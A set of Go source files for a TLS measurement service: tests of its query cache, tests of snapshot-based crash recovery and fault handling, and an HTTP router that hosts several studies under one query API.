		if err != nil {
			t.Fatal(err)
		}
		io.Copy(io.Discard, resp.Body)
		resp.Body.Close()
		if resp.StatusCode != http.StatusOK {
			t.Fatalf("ingest status %d", resp.StatusCode)
		}
	}
	ingest(tsCached)
	ingest(tsPlain)

	const reqBody = `{"query": "pct(version:tls12 / established)"}`
	postQuery := func(ts *httptest.Server) (http.Header, []byte) {
		t.Helper()
		resp, err := http.Post(ts.URL+"/query", "application/json", strings.NewReader(reqBody))
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		body, err := io.ReadAll(resp.Body)
		if err != nil {
			t.Fatal(err)
		}
		if resp.StatusCode != http.StatusOK {
			t.Fatalf("query status %d: %s", resp.StatusCode, body)
		}
		return resp.Header, body
	}

	h1, body1 := postQuery(tsCached)
	if h1.Get("X-Cache") != "miss" || h1.Get("X-Generation") == "" {
		t.Fatalf("first query: X-Cache=%q X-Generation=%q, want a stamped miss",
			h1.Get("X-Cache"), h1.Get("X-Generation"))
	}
	h2, body2 := postQuery(tsCached)
	if h2.Get("X-Cache") != "hit" {
		t.Fatalf("repeat query: X-Cache=%q, want hit", h2.Get("X-Cache"))
	}
	if !bytes.Equal(body1, body2) {
		t.Error("cache hit body differs from the computed body")
	}
	if h2.Get("X-Generation") != h1.Get("X-Generation") {
		t.Error("cache hit stamped a different generation")
	}

	// An uncached server answers byte-identically (and is always a miss).
	hp, bodyPlain := postQuery(tsPlain)
	if hp.Get("X-Cache") != "miss" {
		t.Errorf("uncached server: X-Cache=%q, want miss", hp.Get("X-Cache"))
	}
	if !bytes.Equal(bodyPlain, body1) {
		t.Error("cached and uncached servers serve different bodies")
	}

	// Further ingestion advances the generation: the next query misses and
	// stamps the new generation.
	ingest(tsCached)
	h3, _ := postQuery(tsCached)
	if h3.Get("X-Cache") != "miss" {
		t.Errorf("post-ingest query: X-Cache=%q, want miss", h3.Get("X-Cache"))
	}
	if h3.Get("X-Generation") == h1.Get("X-Generation") {
		t.Error("post-ingest query stamped the stale generation")
	}

	// /healthz reports the gauges on the cached server only.
	var health struct {
		QueryCache *analysis.QueryCacheStats `json:"query_cache"`
	}
	if err := json.Unmarshal(mustGet(t, tsCached.URL+"/healthz"), &health); err != nil {
		t.Fatal(err)
	}
	if health.QueryCache == nil {
		t.Fatal("healthz lacks query_cache gauges on a cached server")
	}
	if health.QueryCache.Hits < 1 || health.QueryCache.Misses < 2 || health.QueryCache.Entries < 1 {
		t.Errorf("query_cache gauges = %+v", *health.QueryCache)
	}
	health.QueryCache = nil
	if err := json.Unmarshal(mustGet(t, tsPlain.URL+"/healthz"), &health); err != nil {
		t.Fatal(err)
	}
	if health.QueryCache != nil {
		t.Error("healthz reports query_cache gauges without a cache")
	}

	// A study with no aggregate still maps to 503 through the cached path.
	empty := NewServer(&core.Study{}, WithQueryCache(cache, "empty"))
	tsEmpty := httptest.NewServer(empty.Handler())
	defer tsEmpty.Close()
	resp, err := http.Post(tsEmpty.URL+"/query", "application/json", strings.NewReader(reqBody))
	if err != nil {
		t.Fatal(err)
	}
	io.Copy(io.Discard, resp.Body)
	resp.Body.Close()
	if resp.StatusCode != http.StatusServiceUnavailable {
		t.Errorf("unrun study query status %d, want 503", resp.StatusCode)
	}
}

// TestQueryAttributionFamiliesServed runs the fp:/agent: column families end
// to end through the served query path: a live study ingests the shared TSV
// log (classifying each record at ingest), and every attribution query must
// answer byte-identically to the offline reference study built from the same
// log — on the first (miss) response AND the repeated (cache hit) response.
func TestQueryAttributionFamiliesServed(t *testing.T) {
	log, offline := sharedLog(t)

	cache := analysis.NewQueryCache(128, 1<<20)
	srv := NewServer(core.NewLiveStudy(), WithQueryCache(cache, "attrib"))
	ts := httptest.NewServer(srv.Handler())
	defer ts.Close()
	resp, err := http.Post(ts.URL+"/ingest", "text/tab-separated-values", bytes.NewReader(log))
	if err != nil {
		t.Fatal(err)
	}
	io.Copy(io.Discard, resp.Body)
	resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("ingest status %d", resp.StatusCode)
	}

	queries := []string{
		"pct(agent:libraries / fp-conns)",
		"over(agent:* / fp-conns)",
		"count(fp:other)",
		"pct(fp:* / established)",
	}
	for _, src := range queries {
		parsed, err := analysis.ParseQuery(src)
		if err != nil {
			t.Fatal(err)
		}
		want, err := offline.QueryExpr(parsed)
		if err != nil {
			t.Fatalf("%s offline: %v", src, err)
		}
		wantBody := encodeLikeServer(t, want)

		post := func() (http.Header, []byte) {
			t.Helper()
			body, _ := json.Marshal(map[string]string{"query": src})
			resp, err := http.Post(ts.URL+"/query", "application/json", bytes.NewReader(body))
			if err != nil {
				t.Fatal(err)
			}
			defer resp.Body.Close()
			raw, err := io.ReadAll(resp.Body)
			if err != nil {
				t.Fatal(err)
			}
			if resp.StatusCode != http.StatusOK {
				t.Fatalf("%s: status %d: %s", src, resp.StatusCode, raw)
			}
			return resp.Header, raw
		}
		h1, body1 := post()
		if h1.Get("X-Cache") != "miss" {
			t.Fatalf("%s: first query X-Cache=%q, want miss", src, h1.Get("X-Cache"))
		}
		if !bytes.Equal(body1, wantBody) {
			t.Errorf("%s: served body diverges from the offline study.\nserved:  %s\noffline: %s",
				src, body1, wantBody)
		}
		h2, body2 := post()
		if h2.Get("X-Cache") != "hit" {
			t.Fatalf("%s: repeat query X-Cache=%q, want hit", src, h2.Get("X-Cache"))
		}
		if !bytes.Equal(body2, body1) {
			t.Errorf("%s: cache hit body differs from the miss body", src)
		}
	}
}
