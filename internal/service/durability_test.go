package service

import (
	"bytes"
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"tlsage/internal/core"
	"tlsage/internal/notary"
)

// logPrefix returns the shared log cut after its first k records (header and
// comment lines ride along), plus how many record lines the full log holds.
func logPrefix(t *testing.T, log []byte, k int) []byte {
	t.Helper()
	var out bytes.Buffer
	records := 0
	for _, line := range bytes.SplitAfter(log, []byte{'\n'}) {
		trimmed := bytes.TrimSpace(line)
		if len(trimmed) > 0 && trimmed[0] != '#' {
			if records == k {
				break
			}
			records++
		}
		out.Write(line)
	}
	if records < k {
		t.Fatalf("log has only %d records, wanted a %d-record prefix", records, k)
	}
	return out.Bytes()
}

// countRecords counts record lines in a TSV log.
func countRecords(log []byte) int {
	n := 0
	for _, line := range bytes.SplitAfter(log, []byte{'\n'}) {
		trimmed := bytes.TrimSpace(line)
		if len(trimmed) > 0 && trimmed[0] != '#' {
			n++
		}
	}
	return n
}

// studyFromLog serially ingests a TSV log into a fresh live study.
func studyFromLog(t *testing.T, log []byte) *core.Study {
	t.Helper()
	st := core.NewLiveStudy()
	if err := notary.ReadLog(bytes.NewReader(log), st.IngestSink()); err != nil {
		t.Fatal(err)
	}
	return st
}

// scalarsBytes renders a study's scalar report exactly like the server does,
// for byte-level parity comparison.
func scalarsBytes(t *testing.T, st *core.Study) []byte {
	t.Helper()
	scalars, err := st.Scalars()
	if err != nil {
		t.Fatal(err)
	}
	return encodeLikeServer(t, scalars)
}

// TestRestartParitySweep is the central recovery property: for every
// snapshot point k, a snapshot of the first k records plus a replay of the
// log tail past k reconstructs a study whose /scalars report is
// byte-identical to uninterrupted ingest of the whole log.
func TestRestartParitySweep(t *testing.T) {
	log, offline := sharedLog(t)
	want := scalarsBytes(t, offline)
	total := countRecords(log)
	logPath := filepath.Join(t.TempDir(), "conn.log")
	if err := os.WriteFile(logPath, log, 0o644); err != nil {
		t.Fatal(err)
	}

	for _, k := range []int{0, 1, 7, total / 3, total / 2, total - 1, total} {
		dir := t.TempDir()
		prefix := studyFromLog(t, logPrefix(t, log, k))
		if _, gen, err := WriteStudySnapshot(dir, prefix, 0); err != nil {
			t.Fatalf("k=%d: WriteStudySnapshot: %v", k, err)
		} else if gen != uint64(k) {
			t.Fatalf("k=%d: snapshot generation %d", k, gen)
		}
		rec, info, err := RecoverStudy(dir, logPath, t.Logf)
		if err != nil {
			t.Fatalf("k=%d: RecoverStudy: %v", k, err)
		}
		if info.SnapshotRecords != uint64(k) || info.ReplayedRecords != uint64(total-k) {
			t.Fatalf("k=%d: recovered %d snapshot + %d replayed records, want %d + %d",
				k, info.SnapshotRecords, info.ReplayedRecords, k, total-k)
		}
		if got := scalarsBytes(t, rec); !bytes.Equal(got, want) {
			t.Fatalf("k=%d: recovered scalars diverge from uninterrupted ingest", k)
		}
	}

	// No snapshot at all degrades to a full replay; no log to the snapshot;
	// neither to an empty study.
	rec, info, err := RecoverStudy(t.TempDir(), logPath, t.Logf)
	if err != nil || info.SnapshotPath != "" || info.ReplayedRecords != uint64(total) {
		t.Fatalf("log-only recovery: info=%+v err=%v", info, err)
	}
	if got := scalarsBytes(t, rec); !bytes.Equal(got, want) {
		t.Fatal("log-only recovery diverges from uninterrupted ingest")
	}
	rec, info, err = RecoverStudy(t.TempDir(), filepath.Join(t.TempDir(), "absent.log"), t.Logf)
	if err != nil || info.Records() != 0 {
		t.Fatalf("empty recovery: info=%+v err=%v", info, err)
	}
	if records, _, _, err := rec.Counts(); err != nil || records != 0 {
		t.Fatalf("empty recovery study has %d records (err %v)", records, err)
	}
}

// recordLines returns the raw record lines (from, to] of a TSV log, the way
// a run-2 tee would append them.
func recordLines(t *testing.T, log []byte, from, to int) []byte {
	t.Helper()
	var out bytes.Buffer
	records := 0
	for _, line := range bytes.SplitAfter(log, []byte{'\n'}) {
		trimmed := bytes.TrimSpace(line)
		if len(trimmed) > 0 && trimmed[0] != '#' {
			records++
			if records > from && records <= to {
				out.Write(line)
			}
		}
	}
	if records < to {
		t.Fatalf("log has only %d records, wanted lines up to %d", records, to)
	}
	return out.Bytes()
}

// TestRestartCycleParity pins recovery across a *second* crash: after the
// first restart the -out log is truncated and rebased behind a #base
// directive while snapshots keep all-time generations, so the next
// recovery's skip must count generations past the base, not log lines from
// zero. Losing that alignment silently drops every record past the last
// snapshot — the exact multi-restart data loss this test exists to prevent.
func TestRestartCycleParity(t *testing.T) {
	log, _ := sharedLog(t)
	total := countRecords(log)
	a, c, b := total/3, total/2, 2*total/3 // run-1 end, run-2 mid-run snapshot, run-2 end
	dir := t.TempDir()
	logPath := filepath.Join(dir, "conn.log")

	// Run-1 crash state: the log holds records 1..a, the newest snapshot a/2.
	if err := os.WriteFile(logPath, logPrefix(t, log, a), 0o644); err != nil {
		t.Fatal(err)
	}
	if _, _, err := WriteStudySnapshot(dir, studyFromLog(t, logPrefix(t, log, a/2)), 0); err != nil {
		t.Fatal(err)
	}

	// Restart 1: recover, compact, truncate + rebase the log — cmdServe's flow.
	st, info, err := RecoverStudy(dir, logPath, t.Logf)
	if err != nil {
		t.Fatal(err)
	}
	if info.Records() != uint64(a) {
		t.Fatalf("restart 1 recovered %d records, want %d", info.Records(), a)
	}
	if _, gen, err := WriteStudySnapshot(dir, st, 0); err != nil || gen != uint64(a) {
		t.Fatalf("compaction: gen %d err %v, want %d", gen, err, a)
	}
	f, err := OpenIngestLog(logPath, uint64(a), true, info.TornLine)
	if err != nil {
		t.Fatal(err)
	}

	// Run 2: the tee appends records a+1..b to the rebased log, and one
	// mid-run snapshot lands at generation c before the process dies.
	if _, err := f.Write(recordLines(t, log, a, b)); err != nil {
		t.Fatal(err)
	}
	if err := f.Close(); err != nil {
		t.Fatal(err)
	}
	if _, gen, err := WriteStudySnapshot(dir, studyFromLog(t, logPrefix(t, log, c)), 0); err != nil || gen != uint64(c) {
		t.Fatalf("mid-run snapshot: gen %d err %v, want %d", gen, err, c)
	}

	// Restart 2: the snapshot covers 1..c, the log holds a+1..b behind
	// "#base a" — recovery must replay exactly b-c records on top.
	rec, info2, err := RecoverStudy(dir, logPath, t.Logf)
	if err != nil {
		t.Fatal(err)
	}
	if info2.SnapshotRecords != uint64(c) || info2.ReplayedRecords != uint64(b-c) || info2.LogBase != uint64(a) {
		t.Fatalf("restart 2: %d snapshot + %d replayed records (log base %d), want %d + %d (base %d)",
			info2.SnapshotRecords, info2.ReplayedRecords, info2.LogBase, c, b-c, a)
	}
	if got := scalarsBytes(t, rec); !bytes.Equal(got, scalarsBytes(t, studyFromLog(t, logPrefix(t, log, b)))) {
		t.Fatal("second-restart recovery diverges from uninterrupted ingest of every durable record")
	}
}

// TestOpenIngestLogAppendsWithoutSnapshots pins the no-snapshot-dir flow:
// when the log is the only durable copy of what recovery just replayed, it
// must be appended to (torn tail trimmed first), never truncated — a crash
// right after restart may lose nothing that was already on disk.
func TestOpenIngestLogAppendsWithoutSnapshots(t *testing.T) {
	log, _ := sharedLog(t)
	total := countRecords(log)
	a, b := total/2, total
	dir := t.TempDir()
	logPath := filepath.Join(dir, "conn.log")

	// Run-1 crash left records 1..a plus a torn final line.
	prefix := logPrefix(t, log, a)
	torn := recordLines(t, log, a, a+1)
	state := append(append([]byte(nil), prefix...), torn[:len(torn)/2]...)
	if err := os.WriteFile(logPath, state, 0o644); err != nil {
		t.Fatal(err)
	}

	st, info, err := RecoverStudy("", logPath, t.Logf)
	if err != nil {
		t.Fatal(err)
	}
	if info.Records() != uint64(a) || !info.LogTruncated || info.TornLine == 0 {
		t.Fatalf("torn-log recovery: info=%+v, want %d records and a torn line", info, a)
	}
	_, _, gen, err := st.Counts()
	if err != nil {
		t.Fatal(err)
	}
	f, err := OpenIngestLog(logPath, gen, false, info.TornLine)
	if err != nil {
		t.Fatal(err)
	}
	// The trim leaves exactly the records recovery kept, so appending can't
	// fuse fresh records onto the torn line.
	if st, err := f.Stat(); err != nil || st.Size() != int64(len(prefix)) {
		t.Fatalf("trimmed log is %d bytes (err %v), want %d", st.Size(), err, len(prefix))
	}

	// Run 2 appends the rest, then crashes with nothing but the log.
	if _, err := f.Write(recordLines(t, log, a, b)); err != nil {
		t.Fatal(err)
	}
	if err := f.Close(); err != nil {
		t.Fatal(err)
	}
	rec, info2, err := RecoverStudy("", logPath, t.Logf)
	if err != nil {
		t.Fatal(err)
	}
	if info2.ReplayedRecords != uint64(b) || info2.LogTruncated {
		t.Fatalf("full-log recovery: info=%+v, want %d clean records", info2, b)
	}
	if got := scalarsBytes(t, rec); !bytes.Equal(got, scalarsBytes(t, studyFromLog(t, log))) {
		t.Fatal("append-mode recovery diverges from uninterrupted ingest")
	}
}

// corruptState builds one crashed-notary scene: an older intact snapshot at
// records k, a newest snapshot at the full count, and the complete log.
func corruptState(t *testing.T, log []byte, k int) (dir, logPath, newest string) {
	t.Helper()
	dir = t.TempDir()
	if _, _, err := WriteStudySnapshot(dir, studyFromLog(t, logPrefix(t, log, k)), 0); err != nil {
		t.Fatal(err)
	}
	newest, _, err := WriteStudySnapshot(dir, studyFromLog(t, log), 0)
	if err != nil {
		t.Fatal(err)
	}
	logPath = filepath.Join(dir, "conn.log")
	if err := os.WriteFile(logPath, log, 0o644); err != nil {
		t.Fatal(err)
	}
	return dir, logPath, newest
}

// TestRecoverFaultInjection corrupts the newest snapshot every way a crash
// can — truncation at arbitrary offsets, flipped bytes, leftover temp files —
// and requires recovery to (a) never fail, (b) fall back to the older
// snapshot or a full replay, and (c) still land byte-identical on the
// uninterrupted-ingest scalars.
func TestRecoverFaultInjection(t *testing.T) {
	log, offline := sharedLog(t)
	want := scalarsBytes(t, offline)
	total := countRecords(log)
	k := total / 2

	checkParity := func(t *testing.T, dir, logPath string, wantCorrupt int) RecoveryInfo {
		t.Helper()
		rec, info, err := RecoverStudy(dir, logPath, t.Logf)
		if err != nil {
			t.Fatalf("RecoverStudy: %v", err)
		}
		if info.CorruptSnapshots != wantCorrupt {
			t.Fatalf("skipped %d corrupt snapshots, want %d", info.CorruptSnapshots, wantCorrupt)
		}
		if got := scalarsBytes(t, rec); !bytes.Equal(got, want) {
			t.Fatal("recovered scalars diverge from uninterrupted ingest")
		}
		return info
	}

	t.Run("truncated newest", func(t *testing.T) {
		dir, logPath, newest := corruptState(t, log, k)
		full, err := os.ReadFile(newest)
		if err != nil {
			t.Fatal(err)
		}
		// Sweep truncation points across the frame: header, payload, trailer.
		for _, n := range []int{0, 1, 4, 12, 13, len(full) / 2, len(full) - 4, len(full) - 1} {
			if err := os.WriteFile(newest, full[:n], 0o644); err != nil {
				t.Fatal(err)
			}
			info := checkParity(t, dir, logPath, 1)
			if info.SnapshotRecords != uint64(k) {
				t.Fatalf("truncate@%d: fell back to generation %d, want %d", n, info.SnapshotRecords, k)
			}
		}
	})

	t.Run("flipped byte in newest", func(t *testing.T) {
		dir, logPath, newest := corruptState(t, log, k)
		full, err := os.ReadFile(newest)
		if err != nil {
			t.Fatal(err)
		}
		for _, off := range []int{0, 4, 8, 13, len(full) / 2, len(full) - 2} {
			mut := append([]byte(nil), full...)
			mut[off] ^= 0x40
			if err := os.WriteFile(newest, mut, 0o644); err != nil {
				t.Fatal(err)
			}
			checkParity(t, dir, logPath, 1)
		}
	})

	t.Run("every snapshot corrupt falls back to full replay", func(t *testing.T) {
		dir, logPath, _ := corruptState(t, log, k)
		snaps, err := listSnapshots(dir)
		if err != nil {
			t.Fatal(err)
		}
		for _, s := range snaps {
			if err := os.WriteFile(s, []byte("garbage"), 0o644); err != nil {
				t.Fatal(err)
			}
		}
		info := checkParity(t, dir, logPath, len(snaps))
		if info.SnapshotPath != "" || info.ReplayedRecords != uint64(total) {
			t.Fatalf("full-replay fallback: info=%+v", info)
		}
	})

	t.Run("leftover tmp from interrupted write is removed", func(t *testing.T) {
		dir, logPath, _ := corruptState(t, log, k)
		tmp := filepath.Join(dir, "snap-interrupted.tmp")
		if err := os.WriteFile(tmp, []byte("half a snapshot"), 0o644); err != nil {
			t.Fatal(err)
		}
		checkParity(t, dir, logPath, 0)
		if _, err := os.Stat(tmp); !os.IsNotExist(err) {
			t.Errorf("leftover %s still present after recovery", tmp)
		}
	})

	t.Run("torn log tail from kill mid-ingest", func(t *testing.T) {
		// Crash signature: the durable log ends mid-line. Recovery keeps the
		// valid prefix and reports the truncation; the result equals
		// uninterrupted ingest of exactly the records that made it to disk.
		dir := t.TempDir()
		j := total - total/4
		prefix := logPrefix(t, log, j)
		lines := bytes.SplitAfter(log, []byte{'\n'})
		last := lines[len(lines)-2] // a full record line to tear
		torn := append(append([]byte(nil), prefix...), last[:len(last)/2]...)
		logPath := filepath.Join(dir, "conn.log")
		if err := os.WriteFile(logPath, torn, 0o644); err != nil {
			t.Fatal(err)
		}
		if _, _, err := WriteStudySnapshot(dir, studyFromLog(t, logPrefix(t, log, k)), 0); err != nil {
			t.Fatal(err)
		}
		rec, info, err := RecoverStudy(dir, logPath, t.Logf)
		if err != nil {
			t.Fatalf("RecoverStudy: %v", err)
		}
		if !info.LogTruncated {
			t.Fatal("torn tail not reported")
		}
		if info.Records() != uint64(j) {
			t.Fatalf("recovered %d records, want %d", info.Records(), j)
		}
		if got := scalarsBytes(t, rec); !bytes.Equal(got, scalarsBytes(t, studyFromLog(t, prefix))) {
			t.Fatal("torn-log recovery diverges from clean ingest of the surviving prefix")
		}
	})
}

// TestSnapshotRetention pins the pruning contract: only the newest keep
// snapshots survive a write.
func TestSnapshotRetention(t *testing.T) {
	log, _ := sharedLog(t)
	dir := t.TempDir()
	for _, k := range []int{10, 20, 30, 40, 50} {
		if _, _, err := WriteStudySnapshot(dir, studyFromLog(t, logPrefix(t, log, k)), 2); err != nil {
			t.Fatal(err)
		}
	}
	snaps, err := listSnapshots(dir)
	if err != nil {
		t.Fatal(err)
	}
	if len(snaps) != 2 {
		t.Fatalf("%d snapshots retained, want 2: %v", len(snaps), snaps)
	}
	if base := filepath.Base(snaps[0]); base != snapshotName(50) {
		t.Fatalf("newest retained snapshot is %s, want %s", base, snapshotName(50))
	}
}

// TestServerDurabilityEndToEnd drives the whole loop through a live server:
// ingest with a record-count snapshot trigger, healthz durability gauges,
// retention, the final snapshot on Close, and recovery parity from the
// snapshot directory alone.
func TestServerDurabilityEndToEnd(t *testing.T) {
	log, offline := sharedLog(t)
	total := countRecords(log)
	dir := t.TempDir()
	srv := NewServer(core.NewLiveStudy(),
		WithFlushEvery(37),
		WithDurability(DurabilityOptions{Dir: dir, EveryRecords: 100, Keep: 2, Logf: t.Logf}))
	ts := httptest.NewServer(srv.Handler())

	resp, err := http.Post(ts.URL+"/ingest", "text/tab-separated-values", bytes.NewReader(log))
	if err != nil {
		t.Fatal(err)
	}
	io.Copy(io.Discard, resp.Body)
	resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("ingest status %d", resp.StatusCode)
	}

	// The flush-boundary trigger fired during ingest, and healthz reports it.
	var health struct {
		SnapshotGeneration uint64  `json:"snapshot_generation"`
		SnapshotAge        float64 `json:"snapshot_age_seconds"`
		SnapshotsWritten   uint64  `json:"snapshots_written"`
		SnapshotErrors     uint64  `json:"snapshot_errors"`
	}
	if err := json.Unmarshal(mustGet(t, ts.URL+"/healthz"), &health); err != nil {
		t.Fatal(err)
	}
	if health.SnapshotsWritten == 0 || health.SnapshotGeneration == 0 {
		t.Fatalf("healthz shows no snapshots after ingest: %+v", health)
	}
	if health.SnapshotErrors != 0 || health.SnapshotAge < 0 {
		t.Fatalf("healthz durability gauges: %+v", health)
	}
	ts.Close()

	// Close writes the final snapshot: the full aggregate is durable.
	if err := srv.Close(); err != nil {
		t.Fatal(err)
	}
	snaps, err := listSnapshots(dir)
	if err != nil {
		t.Fatal(err)
	}
	if len(snaps) == 0 || len(snaps) > 2 {
		t.Fatalf("%d snapshots retained, want 1..2: %v", len(snaps), snaps)
	}
	if base := filepath.Base(snaps[0]); base != snapshotName(uint64(total)) {
		t.Fatalf("newest snapshot is %s, want generation %d", base, total)
	}

	// Recovery from the snapshot directory alone reproduces the study.
	rec, info, err := RecoverStudy(dir, "", t.Logf)
	if err != nil {
		t.Fatalf("RecoverStudy: %v", err)
	}
	if info.SnapshotRecords != uint64(total) {
		t.Fatalf("recovered generation %d, want %d", info.SnapshotRecords, total)
	}
	if !bytes.Equal(scalarsBytes(t, rec), scalarsBytes(t, offline)) {
		t.Fatal("snapshot-recovered scalars diverge from uninterrupted ingest")
	}
}

// TestRecoveredStudyKeepsIngesting pins the restart flow end to end: recover,
// compact, keep serving — the remaining records arrive afterwards and the
// final state matches never having crashed.
func TestRecoveredStudyKeepsIngesting(t *testing.T) {
	log, offline := sharedLog(t)
	total := countRecords(log)
	k := total / 2
	dir := t.TempDir()
	logPath := filepath.Join(dir, "conn.log")
	if err := os.WriteFile(logPath, logPrefix(t, log, k), 0o644); err != nil {
		t.Fatal(err)
	}
	st, _, err := RecoverStudy(dir, logPath, t.Logf)
	if err != nil {
		t.Fatal(err)
	}
	srv := NewServer(st, WithFlushEvery(53))
	ts := httptest.NewServer(srv.Handler())
	defer ts.Close()

	// Feed the tail: record lines k.. of the log (header lines are comments,
	// so resending them is harmless — build the tail as full log minus the
	// prefix's record lines).
	var tail bytes.Buffer
	records := 0
	for _, line := range bytes.SplitAfter(log, []byte{'\n'}) {
		trimmed := bytes.TrimSpace(line)
		if len(trimmed) > 0 && trimmed[0] != '#' {
			records++
			if records <= k {
				continue
			}
			tail.Write(line)
		}
	}
	resp, err := http.Post(ts.URL+"/ingest", "text/tab-separated-values", &tail)
	if err != nil {
		t.Fatal(err)
	}
	io.Copy(io.Discard, resp.Body)
	resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("tail ingest status %d", resp.StatusCode)
	}
	if !bytes.Equal(scalarsBytes(t, srv.Study()), scalarsBytes(t, offline)) {
		t.Fatal("recover-then-ingest diverges from uninterrupted ingest")
	}
	if gotGen := mustGet(t, ts.URL+"/healthz"); !strings.Contains(string(gotGen), `"records"`) {
		t.Fatal("healthz unserved after recovery")
	}
}
