// The multi-study router: one live aggregate per vantage point behind the
// same query API. A Router nests whole Servers under /studies/{id}/ — every
// per-study endpoint (ingest, figures, query, healthz, ...) keeps its exact
// single-study behaviour — and aliases the default study's routes at the
// root, so single-study clients keep working against a routed deployment.
package service

import (
	"fmt"
	"net/http"
	"strings"
)

// Router hosts named studies under /studies/{id}/ and the default study at
// the legacy root routes.
//
//	GET  /studies                 list hosted studies with live counts
//	GET  /studies/{id}            one study's counts (healthz shape + id)
//	ANY  /studies/{id}/...        the study's full Server API
//	ANY  /...                     alias for the default study (legacy routes)
//
// Add is not safe to call concurrently with request serving; assemble the
// router before listening, like an http.ServeMux.
type Router struct {
	mux       *http.ServeMux
	ids       []string // insertion order, for stable listings
	servers   map[string]*Server
	defaultID string
}

// NewRouter builds an empty router; the first study added becomes the
// default unless SetDefault picks another.
func NewRouter() *Router {
	rt := &Router{
		mux:     http.NewServeMux(),
		servers: make(map[string]*Server),
	}
	rt.mux.HandleFunc("GET /studies", rt.handleList)
	// Registered method-agnostic: a POST to /studies/{id} (say, a /query
	// with the suffix forgotten) must answer "wrong method, the API lives
	// under /studies/{id}/..." — not fall through to the root catch-all and
	// claim the study does not exist.
	rt.mux.HandleFunc("/studies/{id}", rt.handleStudyInfo)
	rt.mux.Handle("/studies/{id}/", http.HandlerFunc(rt.handleStudy))
	rt.mux.Handle("/", http.HandlerFunc(rt.handleDefault))
	return rt
}

// Add mounts srv under /studies/{id}/. IDs are lowercase path segments
// (letters, digits, '-', '_', '.'); the first study added becomes the
// default for the legacy root routes.
func (rt *Router) Add(id string, srv *Server) error {
	if id == "" {
		return fmt.Errorf("service: empty study id")
	}
	for i := 0; i < len(id); i++ {
		c := id[i]
		if 'a' <= c && c <= 'z' || '0' <= c && c <= '9' || c == '-' || c == '_' || c == '.' {
			continue
		}
		return fmt.Errorf("service: study id %q: bad character %q", id, c)
	}
	if _, dup := rt.servers[id]; dup {
		return fmt.Errorf("service: duplicate study id %q", id)
	}
	rt.servers[id] = srv
	rt.ids = append(rt.ids, id)
	if rt.defaultID == "" {
		rt.defaultID = id
	}
	return nil
}

// SetDefault picks which study answers the legacy root routes.
func (rt *Router) SetDefault(id string) error {
	if _, ok := rt.servers[id]; !ok {
		return fmt.Errorf("service: no study %q", id)
	}
	rt.defaultID = id
	return nil
}

// Server returns the server hosted under id.
func (rt *Router) Server(id string) (*Server, bool) {
	srv, ok := rt.servers[id]
	return srv, ok
}

// DefaultServer returns the study serving the legacy root routes (nil for
// an empty router).
func (rt *Router) DefaultServer() *Server { return rt.servers[rt.defaultID] }

// IDs lists the hosted study ids in mount order.
func (rt *Router) IDs() []string { return append([]string(nil), rt.ids...) }

// Handler returns the routing HTTP handler.
func (rt *Router) Handler() http.Handler { return rt.mux }

// Close closes every hosted server (TCP listeners, durable tees); the first
// error wins.
func (rt *Router) Close() error {
	var first error
	for _, id := range rt.ids {
		if err := rt.servers[id].Close(); err != nil && first == nil {
			first = err
		}
	}
	return first
}

// studyInfo is one row of the /studies listing.
type studyInfo struct {
	ID         string `json:"id"`
	Default    bool   `json:"default"`
	Records    int    `json:"records"`
	Months     int    `json:"months"`
	Generation uint64 `json:"generation"`
}

func (rt *Router) info(id string) studyInfo {
	records, months, gen, _ := rt.servers[id].Study().Counts()
	return studyInfo{
		ID:         id,
		Default:    id == rt.defaultID,
		Records:    records,
		Months:     months,
		Generation: gen,
	}
}

func (rt *Router) handleList(w http.ResponseWriter, r *http.Request) {
	out := make([]studyInfo, 0, len(rt.ids))
	for _, id := range rt.ids {
		out = append(out, rt.info(id))
	}
	writeJSON(w, http.StatusOK, out)
}

// unknownStudy answers a lookup miss with the valid ids, mirroring the
// figure-name miss shape.
func (rt *Router) unknownStudy(w http.ResponseWriter, id string) {
	writeJSON(w, http.StatusNotFound, map[string]any{
		"error": fmt.Sprintf("no study %q", id),
		"valid": rt.ids,
	})
}

func (rt *Router) handleStudyInfo(w http.ResponseWriter, r *http.Request) {
	id := r.PathValue("id")
	if _, ok := rt.servers[id]; !ok {
		rt.unknownStudy(w, id)
		return
	}
	if r.Method != http.MethodGet {
		writeJSON(w, http.StatusMethodNotAllowed, map[string]string{
			"error": fmt.Sprintf("%s on the study root; the study API is under /studies/%s/ (e.g. POST /studies/%s/ingest or /studies/%s/query)",
				r.Method, id, id, id),
		})
		return
	}
	writeJSON(w, http.StatusOK, rt.info(id))
}

// handleStudy strips the /studies/{id} prefix and delegates to the study's
// own Server mux, so nested routes behave exactly like a standalone server.
func (rt *Router) handleStudy(w http.ResponseWriter, r *http.Request) {
	id := r.PathValue("id")
	srv, ok := rt.servers[id]
	if !ok {
		rt.unknownStudy(w, id)
		return
	}
	http.StripPrefix("/studies/"+id, srv.Handler()).ServeHTTP(w, r)
}

// handleDefault aliases the legacy single-study routes onto the default
// study.
func (rt *Router) handleDefault(w http.ResponseWriter, r *http.Request) {
	srv := rt.DefaultServer()
	if srv == nil {
		writeJSON(w, http.StatusNotFound, map[string]any{
			"error": "router hosts no studies",
			"valid": []string{},
		})
		return
	}
	// /studies/ with a trailing slash but no id lands here via the catch-all;
	// redirecting it into a study would be surprising, so 404 it explicitly.
	if strings.HasPrefix(r.URL.Path, "/studies/") {
		rt.unknownStudy(w, strings.TrimPrefix(r.URL.Path, "/studies/"))
		return
	}
	srv.Handler().ServeHTTP(w, r)
}
