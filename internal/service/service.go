// Package service runs the live Notary collector: the long-runtime mode the
// paper's vantage point implies. A Server keeps one core.Study hot — the
// same aggregate that answers batch queries — and ingests TSV record
// streams over HTTP POST or raw TCP while serving JSON query endpoints off
// generation-checked analysis.Frame snapshots, so queries never observe a
// half-applied record and ingestion never waits on a slow reader.
//
// Endpoints:
//
//	POST /ingest          a connection-log stream: TSV (LogWriter format;
//	                      header and comment lines are skipped, ReadLog
//	                      semantics) or, with Content-Type
//	                      application/x-tlsage-batch, the length-prefixed
//	                      binary batch framing (notary.ReadBatches)
//	GET  /figures         every catalog figure, evaluated on a frame snapshot
//	GET  /figure/{name}   one figure by catalog name ("versions") or number ("1")
//	GET  /scalars         the paper-vs-measured scalar report
//	GET  /metrics         the declarative figure catalog (incl. each series'
